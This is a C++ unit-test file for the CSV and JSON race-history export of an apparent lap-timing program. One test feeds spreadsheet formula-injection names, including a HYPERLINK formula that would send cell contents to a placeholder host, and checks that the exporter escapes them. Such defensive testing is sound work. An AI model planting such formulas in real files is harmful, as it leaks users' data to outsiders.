#include "Verlaufsexport.h"

#include "KleinerDatentraeger.h"
#include "QtAusgabe.h"
#include "Verlaufsspeicher.h"
#include "Verlaufstest.h"

#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSqlError>
#include <QSqlQuery>
#include <sys/stat.h>
#include <thread>

namespace {
struct Exportordner : Verlaufsordner {
    Exportordner() {
        EXPECT_TRUE(db.vorbereiten().beschreibbar);
        Rennaufzeichnung eins = rennen(QStringLiteral("Jürgen \"Blitz\"; Ö"), {3.25, 2.5},
                                       QStringLiteral("Zeile\nzwei"), {4});
        eins.laeufe[0][2].runden[0].vonHand = true;
        eins.laeufe[0][1].farbe = 0x00A5FF; // orange, as 0x00BBGGRR
        eins.abgebrochen = true;
        eins.sieger.reset();
        Rennaufzeichnung zwei = rennen(QStringLiteral("Anna"), {3}, lang, {3});
        zwei.art = Rennart::Spurwechsel;
        zwei.quelle = Signalquelle::Tastatur;
        zwei.sieger.reset();
        zwei.laeufe.push_back({fahrt(lang, {3}), fahrt(QStringLiteral("Anna"), {3})});
        for (const Rennaufzeichnung* r : {&eins, &zwei})
            EXPECT_EQ(Verlaufsspeicher(db).speichern(*r), std::nullopt);
    }
    QByteArray exportieren(const QString& name, std::optional<qint64> nur = std::nullopt) {
        Verlaufsabfragen abfragen(db);
        const QString ziel = QDir(ordner.path()).filePath(name);
        EXPECT_EQ(verlaufExportieren(ziel, nur ? einRennen(nur, *abfragen.rennen(*nur))
                                               : alleRennen(abfragen, {})),
                  std::nullopt);
        QFile datei(ziel);
        return datei.open(QIODevice::ReadOnly) ? datei.readAll() : QByteArray();
    }
    const QString lang = QString(10000, QChar(0x00E4)); // ä
    Verlaufsdatenbank db{pfad};
};
} // namespace

TEST(Verlaufsexport, CsvOeffnetSichInDeutschenTabellenprogrammenWieEsIst) {
    Exportordner o;
    const QByteArray csv = o.exportieren(QStringLiteral("alle.CSV"));
    const QByteArray erwartet =
        "\xEF\xBB\xBF"
        "Rennen;Datum;Modus;Lauf;Spur;Fahrer;Runde;Zeit (s);Geschwindigkeit (m/s);Handrunde;"
        "Rennart;Renndauer (s);Zielregel;Distanz (Runden);Hinweis\r\n"
        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";1;"
        "3,250;1,538;nein;Runden;;;;\r\n"
        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";2;"
        "2,500;2,000;nein;Runden;;;;\r\n"
        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;2;\"Zeile\nzwei\";1;4,000;1,250;ja;Runden;;;;\r\n";
    EXPECT_TRUE(csv.startsWith(erwartet)) << csv.left(600).toStdString();
    const QList<QByteArray> rest = csv.mid(erwartet.size()).split('\n');
    ASSERT_EQ(rest.size(), 5) << "four laps of race 2, and the end";
    EXPECT_EQ(rest[1],
              "2;01.05.2026 14:03:22;Spurwechsel;1;2;" + o.lang.toUtf8() + ";1;3,000;1,667;nein;Runden;;;;\r");
    EXPECT_EQ(rest[3], "2;01.05.2026 14:03:22;Spurwechsel;2;2;Anna;1;3,000;1,667;nein;Runden;;;;\r");

    EXPECT_EQ(o.exportieren(QStringLiteral("eins.csv"), 2).count('\n'), 5) << "one race alone";
}

TEST(Verlaufsexport, JsonMitZahlenAlsZahlenUndIsoDaten) {
    Exportordner o;
    QJsonParseError fehler{};
    const QJsonDocument doc =
        QJsonDocument::fromJson(o.exportieren(QStringLiteral("a.json")), &fehler);
    ASSERT_EQ(fehler.error, QJsonParseError::NoError) << fehler.errorString().toStdString();
    const QJsonArray rennen = doc.object()[QStringLiteral("rennen")].toArray();
    ASSERT_EQ(rennen.size(), 2);
    const QJsonObject eins = rennen[0].toObject();
    EXPECT_EQ(eins[QStringLiteral("nummer")], 1);
    EXPECT_EQ(eins[QStringLiteral("beginn")], "2026-05-01T14:03:22+02:00");
    EXPECT_EQ(eins[QStringLiteral("modus")], "rennen");
    EXPECT_EQ(eins[QStringLiteral("abgebrochen")], true);
    EXPECT_EQ(eins[QStringLiteral("sieger")], QJsonValue::Null);
    EXPECT_EQ(eins[QStringLiteral("unentschieden")], false);
    EXPECT_EQ(eins[QStringLiteral("kurslaenge")], 5);
    const QJsonObject spur1 =
        eins[QStringLiteral("laeufe")][0][QStringLiteral("spuren")][0].toObject();
    EXPECT_EQ(spur1[QStringLiteral("fahrer")], "Jürgen \"Blitz\"; Ö");
    EXPECT_EQ(spur1[QStringLiteral("farbe")], "#FFA500");
    EXPECT_EQ(spur1[QStringLiteral("gesamtzeit")], 5.75);
    EXPECT_EQ(spur1[QStringLiteral("bestrunde")], 2);
    EXPECT_EQ(spur1[QStringLiteral("runden")][1][QStringLiteral("zeit")], 2.5);
    const QJsonObject spur2 =
        eins[QStringLiteral("laeufe")][0][QStringLiteral("spuren")][1].toObject();
    EXPECT_EQ(spur2[QStringLiteral("fahrer")], "Zeile\nzwei");
    EXPECT_EQ(spur2[QStringLiteral("runden")][0][QStringLiteral("handrunde")], true);

    const QJsonObject zwei = rennen[1].toObject();
    EXPECT_EQ(zwei[QStringLiteral("modus")], "spurwechsel");
    EXPECT_EQ(zwei[QStringLiteral("signalquelle")], "tastatur");
    EXPECT_EQ(zwei[QStringLiteral("unentschieden")], true);
    EXPECT_EQ(
        zwei[QStringLiteral("laeufe")][1][QStringLiteral("spuren")][0][QStringLiteral("fahrer")],
        o.lang);
}

// A lap far under the lane's median is flagged as counted twice, one far over it as hiding
// a missed crossing; the lane with too few laps to judge gets no flags.
TEST(Verlaufsexport, VerdaechtigeRundenTragenIhrenHinweis) {
    Exportordner o;
    const Rennaufzeichnung drei =
        rennen(QStringLiteral("Anna"), {4, 4, 1.9, 4, 7.3, 7.2}, QStringLiteral("Bert"), {1, 9});
    ASSERT_EQ(Verlaufsspeicher(o.db).speichern(drei), std::nullopt);
    QStringList hinweise;
    for (const QByteArray& zeile : o.exportieren(QStringLiteral("h.csv"), 3).split('\n'))
        if (!zeile.isEmpty())
            hinweise << QString::fromUtf8(zeile.split(';').last()).trimmed();
    EXPECT_EQ(hinweise, (QStringList{"Hinweis", "", "", "doppelt?", "", "verpasst?", "", "", ""}))
        << "median 4: under 2 s twice, over 7,2 s missed; two laps are too few to judge";

    const QJsonDocument doc = QJsonDocument::fromJson(o.exportieren(QStringLiteral("h.json"), 3));
    const QJsonArray runden = doc.object()[QStringLiteral("rennen")][0][QStringLiteral("laeufe")][0]
                                          [QStringLiteral("spuren")][0][QStringLiteral("runden")]
                                              .toArray();
    ASSERT_EQ(runden.size(), 6);
    EXPECT_EQ(runden[2][QStringLiteral("hinweis")], "doppelt?");
    EXPECT_EQ(runden[4][QStringLiteral("hinweis")], "verpasst?");
    EXPECT_EQ(runden[5][QStringLiteral("hinweis")], QJsonValue::Null);
}

TEST(Verlaufsexport, FalscheEndungOderUnerreichbarerOrtSchreibtNichts) {
    Exportordner o;
    Verlaufsabfragen abfragen(o.db);
    const auto nach = [&](const QString& name) {
        return verlaufExportieren(QDir(o.ordner.path()).filePath(name), alleRennen(abfragen, {}));
    };
    EXPECT_EQ(nach(QStringLiteral("a.txt")), "Der Dateiname muss auf .csv oder .json enden.");
    EXPECT_EQ(nach(QStringLiteral("fehlt/a.csv")), "Der Ordner fehlt.");
    EXPECT_EQ(o.dateien().filter(QStringLiteral("a.")), QStringList{});
}

// A name typed like a formula is text in the spreadsheet; a negative number stays a number.
TEST(Verlaufsexport, CsvZelleDieWieEineFormelBeginntBleibtText) {
    Verlaufsordner o;
    Verlaufsdatenbank db(o.pfad);
    ASSERT_TRUE(db.vorbereiten().beschreibbar);
    const QStringList namen{"=1+2",      "=HYPERLINK(\"http://x.example/?\"&A1)",
                            "+49 170",   "@SUMME(A1)",
                            "\tTab",     "\rWagen",
                            "-Minus",    "-",
                            "-5 Runden", "Anna-Lena =1"};
    for (qsizetype i = 0; i + 1 < namen.size(); i += 2)
        ASSERT_EQ(Verlaufsspeicher(db).speichern(rennen(namen[i], {3}, namen[i + 1], {4})),
                  std::nullopt);
    Verlaufsabfragen abfragen(db);
    const QString ziel = QDir(o.ordner.path()).filePath(QStringLiteral("formeln.csv"));
    ASSERT_EQ(verlaufExportieren(ziel, alleRennen(abfragen, {})), std::nullopt);
    QFile datei(ziel);
    ASSERT_TRUE(datei.open(QIODevice::ReadOnly));
    const QString csv = QString::fromUtf8(datei.readAll());
    QStringList fahrer;
    for (const QString& zeile : csv.split(QStringLiteral("\r\n")).mid(1, namen.size()))
        fahrer << zeile.section(QLatin1Char(';'), 5, -10);
    EXPECT_EQ(fahrer, (QStringList{"'=1+2", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"",
                                   "'+49 170", "'@SUMME(A1)", "'\tTab", "\"'\rWagen\"", "'-Minus",
                                   "'-", "-5 Runden", "Anna-Lena =1"}));
}

TEST(Verlaufsexport, UnendlicheWerteWerdenInJsonZuNull) {
    Exportordner o;
    ASSERT_TRUE(QSqlQuery(o.db.db()).exec(QStringLiteral("UPDATE rennen SET kurslaenge = -1e999")));
    QJsonParseError fehler{};
    const QJsonDocument doc =
        QJsonDocument::fromJson(o.exportieren(QStringLiteral("a.json")), &fehler);
    ASSERT_EQ(fehler.error, QJsonParseError::NoError) << fehler.errorString().toStdString();
    EXPECT_EQ(doc[QStringLiteral("rennen")][1][QStringLiteral("kurslaenge")], QJsonValue::Null);
}

// A named pipe stays a pipe: the command line writes into it for whoever reads, the window
// refuses it at once rather than wait for a reader. A device that is full says so.
TEST(Verlaufsexport, PipeUndGeraetWerdenNieDurchEineDateiErsetzt) {
    Exportordner o;
    Verlaufsabfragen abfragen(o.db);
    const QString pipe = QDir(o.ordner.path()).filePath(QStringLiteral("pipe.csv"));
    ASSERT_EQ(mkfifo(QFile::encodeName(pipe).constData(), 0600), 0);

    QByteArray gelesen;
    std::thread leser([&] {
        QFile aus(pipe);
        if (aus.open(QIODevice::ReadOnly))
            gelesen = aus.readAll();
    });
    EXPECT_EQ(verlaufExportieren(pipe, alleRennen(abfragen, {})), std::nullopt);
    leser.join();
    EXPECT_TRUE(gelesen.startsWith("\xEF\xBB\xBFRennen;Datum;")) << gelesen.left(80).toStdString();
    EXPECT_EQ(gelesen.count('\n'), 9) << "a heading and seven laps, one name of two lines";

    const std::optional<QString> abgelehnt =
        verlaufExportieren(pipe, alleRennen(abfragen, {}), Sonderdatei::Ablehnen);
    ASSERT_NE(abgelehnt, std::nullopt);
    EXPECT_TRUE(abgelehnt->startsWith("Das ist keine gewöhnliche Datei"))
        << abgelehnt->toStdString();
    EXPECT_TRUE(QFileInfo(pipe).exists() && !QFileInfo(pipe).isFile()) << "still a pipe";

    const QString voll = QDir(o.ordner.path()).filePath(QStringLiteral("voll.json"));
    ASSERT_TRUE(QFile::link(QStringLiteral("/dev/full"), voll));
    EXPECT_EQ(verlaufExportieren(voll, alleRennen(abfragen, {})), "Der Datenträger ist voll.");
}

TEST(Verlaufsexport, VollerDatentraegerNenntDenGrundUndHinterlaesstNichts) {
    Exportordner o;
    KleinerDatentraeger klein(64);
    if (!klein.bereit())
        GTEST_SKIP() << "no tmpfs of our own (not root)";
    Verlaufsabfragen abfragen(o.db);
    klein.fuellen();
    EXPECT_EQ(verlaufExportieren(klein.pfad(QStringLiteral("a.csv")), alleRennen(abfragen, {})),
              "Der Datenträger ist voll.");
    EXPECT_EQ(QDir(klein.pfad()).entryList(QDir::Files | QDir::Hidden), QStringList{"fuellung"})
        << "no part of a file left behind";
}
